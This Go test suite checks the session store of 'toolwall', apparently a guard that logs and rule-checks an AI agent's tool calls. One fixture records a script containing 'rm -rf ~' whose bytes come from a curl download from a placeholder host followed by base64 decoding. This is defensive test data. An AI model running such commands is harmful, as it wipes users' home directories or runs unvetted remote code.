package sessiontest

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/toolwall/toolwall"
	"github.com/toolwall/toolwall/provenance"
	"github.com/toolwall/toolwall/session"
)

// checks are the parts of the suite that need whole records rather than
// summaries.
var checks = []struct {
	name string
	fn   func(*testing.T, func(*testing.T, session.Options) session.Store)
}{
	{"record round-trips", checkRoundTrip},
	{"stored records are copies", checkCopies},
	{"sizes are bounded", checkLimits},
	{"id length limit", checkIDLength},
	{"cancelled context", checkCancelled},
	{"concurrent goroutines lose nothing", checkConcurrent},
}

func newStore(t *testing.T, open func(*testing.T, session.Options) session.Store, opts session.Options) (session.Store, *clock) {
	clk := &clock{now: epoch}
	opts.Now = clk.Now
	st := open(t, opts)
	t.Cleanup(func() { st.Close() })
	return st, clk
}

func checkRoundTrip(t *testing.T, open func(*testing.T, session.Options) session.Store) {
	st, clk := newStore(t, open, session.Options{})
	ctx := context.Background()
	paris := time.FixedZone("CET", 3600)
	in := []session.Record{{
		Tool:    "Write",
		Summary: "Write /w/run.sh",
		Input:   json.RawMessage(`{"file_path":"/w/run.sh","content":"#!/bin/sh\nrm -rf ~\n"}`),
		Turn:    99, // ignored: the store sets the turn
		At:      time.Date(2026, 1, 2, 4, 0, 0, 123456789, paris),
		Success: true,
		Effects: []toolwall.Effect{
			{Tag: toolwall.TagWriteScript, Path: "/w/run.sh", Detail: "destructive"},
			{Tag: toolwall.TagStage, Path: "/w/run.sh"},
			// where the bytes came from, with the flow encoding's
			// separators: stores keep origins byte for byte
			{Tag: provenance.TagOrigin, Path: "/w/run.sh", Detail: provenance.Flow{
				{Kind: provenance.Network, Via: "curl", From: "https://h.example/x.b64", Path: "/w/x.b64", Turn: 2, Call: "curl -o x.b64 https://h.example/x.b64"},
				{Kind: provenance.Decoded, Via: "base64 -d x.b64", Path: "/w/run.sh"},
			}.Encode()},
		},
		Rules: []string{"rm.home", "chain.write-run"},
	}, {
		Tool:    "Bash",
		Summary: "sh \x00\xff odd bytes ✓",
		Input:   json.RawMessage(`not json at all`),
		Effects: []toolwall.Effect{{Tag: "", Path: "", Detail: "\xfe"}},
	}}
	if _, err := st.AdvanceTurn(ctx, "s"); err != nil {
		t.Fatal(err)
	}
	clk.now = clk.now.Add(time.Minute)
	for _, r := range in {
		if err := st.Append(ctx, "s", r); err != nil {
			t.Fatal(err)
		}
	}
	want := []session.Record{in[0], in[1]}
	want[0].Turn, want[1].Turn = 1, 1
	want[0].At = time.Date(2026, 1, 2, 3, 0, 0, 123456000, time.UTC)
	want[1].At = clk.now
	got, err := st.History(ctx, "s", session.DefaultWindow())
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("History:\n got %#v\nwant %#v", got, want)
	}
	if len(got) == 2 && got[1].At.Location() != time.UTC {
		t.Errorf("At location %v, want UTC", got[1].At.Location())
	}
}

func checkCopies(t *testing.T, open func(*testing.T, session.Options) session.Store) {
	st, _ := newStore(t, open, session.Options{})
	ctx := context.Background()
	r := session.Record{
		Tool: "Bash", Summary: "ls", Input: json.RawMessage(`{"command":"ls"}`),
		Effects: []toolwall.Effect{{Tag: toolwall.TagPermInspect}}, Rules: []string{"a"},
	}
	if err := st.Append(ctx, "s", r); err != nil {
		t.Fatal(err)
	}
	r.Input[2] = 'X'
	r.Effects[0].Tag = "changed"
	r.Rules[0] = "changed"
	for range 2 {
		got, err := st.History(ctx, "s", session.Window{})
		if err != nil || len(got) != 1 {
			t.Fatalf("History = %v, %v", got, err)
		}
		if string(got[0].Input) != `{"command":"ls"}` || got[0].Effects[0].Tag != toolwall.TagPermInspect || got[0].Rules[0] != "a" {
			t.Fatalf("the store shares memory with its caller: %#v", got[0])
		}
		got[0].Input[2] = 'Y'
		got[0].Effects[0].Tag = "changed"
		got[0].Rules[0] = "changed"
	}
}

func checkLimits(t *testing.T, open func(*testing.T, session.Options) session.Store) {
	st, _ := newStore(t, open, session.Options{})
	ctx := context.Background()
	long := strings.Repeat("é", session.MaxFieldLen) // two bytes each
	bigInput, _ := json.Marshal(map[string]string{"command": strings.Repeat("\"<x>\"\n", session.MaxInputLen)})
	r := session.Record{Tool: long, Summary: long, Input: bigInput, Rules: []string{long}}
	for range session.MaxList + 5 {
		r.Effects = append(r.Effects, toolwall.Effect{Tag: toolwall.TagDelete, Path: long, Detail: long})
		r.Rules = append(r.Rules, "r")
	}
	if err := st.Append(ctx, "s", r); err != nil {
		t.Fatal(err)
	}
	got, err := st.History(ctx, "s", session.Window{})
	if err != nil || len(got) != 1 {
		t.Fatalf("History = %v, %v", got, err)
	}
	g := got[0]
	short := func(what, s string) {
		t.Helper()
		if len(s) > session.MaxFieldLen || !strings.HasSuffix(s, session.TruncMark) || !strings.HasPrefix(long, strings.TrimSuffix(s, session.TruncMark)) {
			t.Errorf("%s of %d bytes not cut to a prefix within %d ending in %q", what, len(s), session.MaxFieldLen, session.TruncMark)
		}
	}
	short("Tool", g.Tool)
	short("Summary", g.Summary)
	short("Rules[0]", g.Rules[0])
	short("Effects[0].Path", g.Effects[0].Path)
	short("Effects[0].Detail", g.Effects[0].Detail)
	if len(g.Effects) != session.MaxList || len(g.Rules) != session.MaxList {
		t.Errorf("kept %d effects and %d rules, want %d each", len(g.Effects), len(g.Rules), session.MaxList)
	}
	var marker struct {
		Truncated bool
		Bytes     int
		Head      string
	}
	if len(g.Input) > session.MaxInputLen {
		t.Errorf("Input of %d bytes, want at most %d", len(g.Input), session.MaxInputLen)
	}
	if err := json.Unmarshal(g.Input, &marker); err != nil || !marker.Truncated || marker.Bytes != len(bigInput) ||
		!strings.HasPrefix(string(bigInput), marker.Head) || len(marker.Head) < 100 {
		t.Errorf("Input not replaced by a truncation marker: %v %.200s", err, g.Input)
	}
	// At the limits nothing is cut.
	exact := session.Record{Tool: "Bash", Summary: strings.Repeat("s", session.MaxFieldLen),
		Input: json.RawMessage(`"` + strings.Repeat("i", session.MaxInputLen-2) + `"`)}
	if err := st.Append(ctx, "t", exact); err != nil {
		t.Fatal(err)
	}
	got, err = st.History(ctx, "t", session.Window{})
	if err != nil || len(got) != 1 || got[0].Summary != exact.Summary || string(got[0].Input) != string(exact.Input) {
		t.Errorf("a record at the limits was changed: %v", err)
	}
	// A long refusal key is cut the same way every time, so it still counts.
	key := strings.Repeat("k", 3*session.MaxFieldLen)
	for i := 1; i <= 2; i++ {
		if n, err := st.NoteRefusal(ctx, "s", key); n != i || err != nil {
			t.Errorf("NoteRefusal(long key) #%d = %d, %v", i, n, err)
		}
	}
	if n, err := st.Refusals(ctx, "s", key, session.Window{}); n != 2 || err != nil {
		t.Errorf("Refusals(long key) = %d, %v; want 2", n, err)
	}
}

func checkIDLength(t *testing.T, open func(*testing.T, session.Options) session.Store) {
	st, _ := newStore(t, open, session.Options{})
	ctx := context.Background()
	ok := strings.Repeat("i", session.MaxIDLen)
	if n, err := st.AdvanceTurn(ctx, ok); n != 1 || err != nil {
		t.Errorf("AdvanceTurn(%d-byte id) = %d, %v", len(ok), n, err)
	}
	if _, err := st.AdvanceTurn(ctx, ok+"i"); !errors.Is(err, session.ErrInvalid) {
		t.Errorf("AdvanceTurn(%d-byte id) error %v, want ErrInvalid", len(ok)+1, err)
	}
}

func checkCancelled(t *testing.T, open func(*testing.T, session.Options) session.Store) {
	st, _ := newStore(t, open, session.Options{})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	errs := map[string]error{}
	_, errs["Turn"] = st.Turn(ctx, "s")
	_, errs["AdvanceTurn"] = st.AdvanceTurn(ctx, "s")
	errs["Append"] = st.Append(ctx, "s", session.Record{Tool: "Bash"})
	_, errs["History"] = st.History(ctx, "s", session.Window{})
	_, errs["NoteRefusal"] = st.NoteRefusal(ctx, "s", "k")
	_, errs["Refusals"] = st.Refusals(ctx, "s", "k", session.Window{})
	_, errs["Prune"] = st.Prune(ctx, 0)
	for m, err := range errs {
		if !errors.Is(err, context.Canceled) {
			t.Errorf("%s with a cancelled context: error %v, want context.Canceled", m, err)
		}
	}
	if n, err := st.Turn(context.Background(), "s"); n != 0 || err != nil {
		t.Errorf("a cancelled AdvanceTurn took effect: Turn = %d, %v", n, err)
	}
}

func checkConcurrent(t *testing.T, open func(*testing.T, session.Options) session.Store) {
	const workers, each = 8, 10
	st, _ := newStore(t, open, session.Options{Calls: workers * each, Refusals: workers * each})
	ctx := context.Background()
	var wg sync.WaitGroup
	errc := make(chan error, workers)
	for w := range workers {
		wg.Go(func() {
			for i := range each {
				if err := st.Append(ctx, "s", session.Record{Tool: "Bash", Summary: fmt.Sprintf("w%d-%d", w, i)}); err != nil {
					errc <- err
					return
				}
				if _, err := st.NoteRefusal(ctx, "s", "k"); err != nil {
					errc <- err
					return
				}
				if _, err := st.History(ctx, "s", session.Window{}); err != nil {
					errc <- err
					return
				}
			}
			if _, err := st.AdvanceTurn(ctx, "s"); err != nil {
				errc <- err
			}
		})
	}
	wg.Wait()
	close(errc)
	for err := range errc {
		t.Fatal(err)
	}
	if n, err := st.Turn(ctx, "s"); n != workers || err != nil {
		t.Errorf("Turn = %d, %v; want %d", n, err, workers)
	}
	got, err := st.History(ctx, "s", session.Window{Calls: workers * each, Turns: workers + 1})
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, r := range got {
		seen[r.Summary] = true
	}
	if len(got) != workers*each || len(seen) != workers*each {
		t.Errorf("History holds %d records (%d distinct), want %d", len(got), len(seen), workers*each)
	}
	if n, err := st.Refusals(ctx, "s", "k", session.Window{Calls: workers * each, Turns: workers + 1}); n != workers*each || err != nil {
		t.Errorf("Refusals = %d, %v; want %d", n, err, workers*each)
	}
}
